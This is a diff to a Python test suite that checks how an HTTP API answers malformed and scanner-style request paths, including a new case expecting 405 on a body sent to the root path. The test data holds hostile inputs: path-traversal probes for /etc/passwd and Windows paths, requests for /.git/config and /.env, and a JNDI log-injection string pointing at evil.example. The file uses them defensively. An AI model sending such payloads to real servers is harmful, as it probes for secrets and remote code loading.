@@ -104,13 +104,14 @@ def no_http() -> Iterator[Case]:
 def targets() -> Iterator[Case]:
     """Paths that scanners try, and some that are none."""
     unknown = (
-        "/ /v1 /v1/ /v1/encode/ /v1//encode //v1/encode /v1/encode/../score /V1/ENCODE "
+        "/v1 /v1/ /v1/encode/ /v1//encode //v1/encode /v1/encode/../score /V1/ENCODE "
         "/../../etc/passwd /%2e%2e/%2e%2e/etc/passwd /..%5c..%5cwindows /v1/encode%00 "
         "/v1/encode;x=1 /.git/config /.env /wp-login.php /admin /%ff%fe /%zz "
         "/v1/%65ncode%2f /health /health/live/.. /metrics/x /docs/../v1/encode"
     )
     for path in unknown.split():
         yield Case(f"path {path}", request(VALID, path=path), 404)
+    yield Case("a body for the page", request(VALID, path="/"), 405)
     yield Case("a long path", request(VALID, path="/" + "x" * 3_000), 404)
     yield Case("log injection", request(VALID, path="/${jndi:ldap://evil.example/a}"), 404)
     for name, target in (
